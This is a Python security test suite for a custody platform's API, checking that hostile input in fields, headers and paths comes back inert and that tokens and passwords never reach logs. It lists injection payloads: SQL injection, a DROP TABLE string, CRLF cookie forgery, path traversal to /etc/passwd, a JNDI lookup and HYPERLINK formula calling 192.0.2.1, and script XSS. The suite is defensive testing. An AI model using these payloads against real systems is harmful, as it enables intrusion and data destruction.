"""Hostile text in every field, header and path comes back inert, and nothing secret is written down (P44,
P49, P50).
"""

import io
import json
import socket
import sys
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import structlog
from sqlalchemy import inspect, select

from custody.schemas.errors import ErrorCode
from custody.server.cli.logs import log_as_json
from custody.server.domain.roles import EVERY_PERMISSION
from custody.server.service.audit.log import verify
from custody.server.store.models import AuditEvent
from custody.server.web.endpoint import Endpoint
from custody.server.web.routes import ENDPOINTS
from tests.custody.spec.samples import sample
from tests.custody.spec.staging import Stage, open_stage
from tests.support.custody import ok
from tests.support.platform import PASSWORD, World, register_key, seed

HOSTILE = (
    "' OR '1'='1' --",
    "1; DROP TABLE users; --",
    "x\r\nSet-Cookie: refresh_token=forged\r\n\r\n<html>",
    '\n{"level": "info", "event": "forged"}',
    "\x1b]0;owned\x07\x1b[2J",
    "../../../../etc/passwd",
    "${jndi:ldap://192.0.2.1/a} %s%n {0.__class__} {{7*7}}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://192.0.2.1")',
)
TAKING = [row for row in ENDPOINTS if row.takes is not None]
ROWS = [pytest.param(row, id=f"{row.method} {row.path}") for row in TAKING]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    with open_stage(tmp_path_factory.mktemp("state")) as opened:
        # Nine strings in each of some hundred fields, by one person, in one minute.
        opened.desk.world.platform.services.rates._writes._size = 10**6
        opened.desk.world.platform.services.rates._calls._size = 10**6
        yield opened


@pytest.fixture
def logged(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """The log as ``custody serve`` writes it."""
    kept = io.StringIO()
    monkeypatch.setattr(sys, "stderr", kept)
    log_as_json("info")
    yield kept
    structlog.reset_defaults()


def lines(logged: io.StringIO) -> list[dict[str, Any]]:
    return [json.loads(line) for line in logged.getvalue().splitlines()]


def is_inert(answer: httpx.Response) -> None:
    assert answer.status_code < 500, answer.text
    assert set(answer.headers) <= HEADERS, answer.headers
    assert answer.headers["content-type"] in {"application/json", "application/problem+json"}
    if answer.status_code >= 400:
        assert answer.json()["code"] in set(ErrorCode)


HEADERS = {
    "content-length", "content-type", "x-trace-id", "x-content-type-options", "cache-control", "etag", "link",
    "x-total-count", "www-authenticate", "retry-after", "connection", "allow",
}  # fmt: skip


@pytest.mark.parametrize("row", ROWS)
def test_every_field_of_every_endpoint(row: Endpoint, stage: Stage, logged: io.StringIO) -> None:
    """P50: as the body's or the query's, by one who may do everything."""
    stage.gives(EVERY_PERMISSION)
    stage.desk.world.clock.advance(hours=1)
    tester = stage.desk.world.as_user("tester@example.org")
    begun = len(lines(logged))
    before = tables(stage.desk.world)
    path = row.path.format(**dict.fromkeys(row.path_ids, 1))
    body = sample(row, stage.known())
    count = 0
    for name, field in row.takes.model_fields.items():
        for text in HOSTILE:
            asked = body | {field.alias or name: text}
            answer = tester.get(path, **asked) if row.method == "GET" else tester.post(path, asked)
            is_inert(answer)
            count += 1
    assert [line["path"] for line in lines(logged)[begun:]] == [path] * count
    assert tables(stage.desk.world) == before
    assert not verify(stage.desk.world.platform.services.store)


def test_p44_no_address_that_is_sent_is_ever_fetched(stage: Stage) -> None:
    """Whatever field holds an address, the platform never requests it."""
    stage.gives(EVERY_PERMISSION)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/internal"
        for row in TAKING:
            stage.desk.world.clock.advance(hours=1)
            tester = stage.desk.world.as_user("tester@example.org")
            path = row.path.format(**dict.fromkeys(row.path_ids, 1))
            for name, field in row.takes.model_fields.items():
                asked = sample(row, stage.known()) | {field.alias or name: url}
                answer = tester.get(path, **asked) if row.method == "GET" else tester.post(path, asked)
                is_inert(answer)
        stage.desk.settle()
        with pytest.raises(BlockingIOError):
            listener.accept()
        # The same listener notices a call.
        socket.create_connection(listener.getsockname()).close()
        listener.accept()[0].close()


def tables(world: World) -> list[str]:
    with world.platform.services.store.read() as db:
        return sorted(inspect(db.connection()).get_table_names())


@pytest.fixture(scope="module")
def quiet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A workspace that the other tests here have not filled with as many roles as one can have."""
    with open_stage(tmp_path_factory.mktemp("state")) as opened:
        yield opened


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_name_is_a_name(text: str, quiet: Stage) -> None:
    """What may be stored comes back letter for letter; what would break a line is refused."""
    name = f"A {text}"
    body = {"workspace_id": 1, "name": name, "description": "", "transaction_limit": "0", "cycle_period": "M"}
    admin = quiet.desk.world.as_user("admin@example.org")
    answer = admin.post("/api/v1/create-role", {**body, "cycle_day": 1, "permissions": []})
    if any(ord(character) < 32 for character in text):
        assert answer.status_code == 422
        return
    assert ok(answer)["Name"] == name
    roles = ok(admin.get("/api/v1/get-roles-and-perms-detailed", workspace_id=1))
    assert name in {role["Name"] for role in roles}


class TestHeaders:
    @pytest.mark.parametrize("text", HOSTILE)
    @pytest.mark.parametrize(
        "name",
        ["Idempotency-Key", "Authorization", "X-Trace-Id", "User-Agent", "X-Forwarded-For", "Referer",
         "Cookie", "If-None-Match", "Prefer", "Accept", "Content-Type", "Host"],
    )  # fmt: skip
    def test_reach_neither_the_answer_nor_the_log(
        self, name: str, text: str, stage: Stage, logged: io.StringIO
    ) -> None:
        raw = {**stage.desk.admin.headers, name: text.encode()}
        answer = stage.desk.world.http.get("/api/v1/psbt", params={"workspace_id": 1}, headers=raw)
        is_inert(answer)
        (line,) = lines(logged)
        assert set(line) == {
            "method",
            "path",
            "status",
            "milliseconds",
            "trace_id",
            "event",
            "level",
            "timestamp",
        }
        assert line["trace_id"] == answer.headers["X-Trace-Id"]
        assert text not in logged.getvalue()


class TestPaths:
    @pytest.mark.parametrize(
        "path",
        [
            "/api/v1/%0d%0aSet-Cookie:%20a=b",
            "/api/v1/..%2f..%2f..%2fetc%2fpasswd",
            "/api/v1/../../auth/login",
            "/api/v1/keys;x=1",
            "/api/v1/keys%00",
            "/api/v1/%F0%9F%98%80%FF",
            "/api/v1/onboarding-requests/1%20OR%201=1/review",
            "/api/v1/onboarding-requests/-1/review",
            "/api/v1/onboarding-requests/99999999999999999999999999/review",
            "/" + "a" * 50_000,
        ],
    )
    def test_lead_nowhere(self, path: str, stage: Stage, logged: io.StringIO) -> None:
        stage.desk.world.clock.advance(hours=1)
        admin = stage.desk.world.as_user("admin@example.org")
        for method in ("GET", "POST"):
            answer = stage.desk.world.http.request(method, path, headers=admin.headers, json={})
            is_inert(answer)
            assert answer.status_code in {404, 405, 422}
        assert len(lines(logged)) == 3


class TestBodies:
    @pytest.mark.parametrize("depth", [900, 5_000, 60_000])
    @pytest.mark.parametrize(("opening", "closing"), [(b"[", b"]"), (b'{"a":', b"}")])
    def test_nested_deeply_are_refused_at_once(
        self, depth: int, opening: bytes, closing: bytes, stage: Stage
    ) -> None:
        depth = min(depth, 120_000 // len(opening + closing))
        body = opening * depth + b"1" + closing * depth
        headers = {"Content-Type": "application/json"}
        started = time.process_time()
        answer = stage.desk.world.http.post("/auth/login", content=body, headers=headers)
        assert time.process_time() - started < 1
        assert answer.status_code in {400, 422}


class TestSecrets:
    """P49."""

    def test_of_a_whole_life_reach_no_log_no_audit_entry_and_no_refusal(
        self, world: World, logged: io.StringIO
    ) -> None:
        kept = _live(world)
        with world.platform.services.store.read() as db:
            rows = [repr(vars(event)) for event in db.scalars(select(AuditEvent))]
        assert len(rows) > 5
        written = "\n".join([logged.getvalue(), *rows, *kept.refusals])
        assert len(kept.secrets) > 8
        for name, secret in kept.secrets.items():
            assert len(secret) >= 6
            assert secret not in written, name

    def test_the_trace_id_of_a_refusal_is_the_logs_and_the_audit_entrys(
        self, world: World, logged: io.StringIO
    ) -> None:
        world.organisation("Acme", "alice@example.org")
        world.member(1, "bob@example.org")
        answer = world.as_user("bob@example.org").get("/api/v1/get-users-from-workspace", workspace_id=1)
        with world.platform.services.store.read() as db:
            event = db.scalars(select(AuditEvent).where(AuditEvent.category == "ACCESS")).one()
        assert answer.status_code == 403
        assert event.trace_id == answer.json()["trace_id"] == lines(logged)[-1]["trace_id"]


class _Kept:
    def __init__(self) -> None:
        self.secrets: dict[str, str] = {"password": PASSWORD}
        self.refusals: list[str] = []


def _live(world: World) -> _Kept:
    """Signing in in every way, refused and let in; the secrets that were seen on the way."""
    kept, mail = _Kept(), "alice@example.org"
    world.organisation("Acme", mail)
    post = world.http.post
    signed_in = post("/auth/login", json={"email": mail, "password": PASSWORD})
    kept.secrets["refresh token"] = world.http.cookies["refresh_token"]
    kept.secrets["access token"], kept.secrets["sid"] = signed_in.json()["token"], signed_in.json()["sid"]
    refreshed = post("/auth/refresh", json={"sid": signed_in.json()["sid"]})
    kept.secrets["second access token"] = refreshed.json()["token"]
    kept.secrets["second refresh token"] = world.http.cookies["refresh_token"]
    world.http.cookies.clear()
    for name, path, body in (
        ("wrong password", "/auth/login", {"email": mail, "password": "an entirely wrong one"}),
        ("password as address", "/auth/login", {"email": "not an address at all", "password": "x" * 300}),
        ("wrong token", "/auth/otp-validate", {"token_2fa": "wrong-token-wrong-token", "otp": "918273"}),
        (
            "wrong reset",
            "/auth/reset-password",
            {"token": "reset-wrong-reset-wrong", "new_password": "qwertz uiop 9"},
        ),
    ):
        answer = post(path, json=body)
        assert answer.status_code >= 400
        kept.refusals.append(answer.text)
        kept.secrets |= {f"{name} {field}": text for field, text in body.items() if field != "email"}
    user = world.as_user(mail)
    kept.secrets["third access token"] = user.headers["Authorization"].removeprefix("Bearer ")
    ok(register_key(user, seed(1)))
    kept.refusals.append(world.http.get("/api/v1/keys?token=in-the-query-string").text)
    kept.secrets["query"] = "in-the-query-string"
    return kept
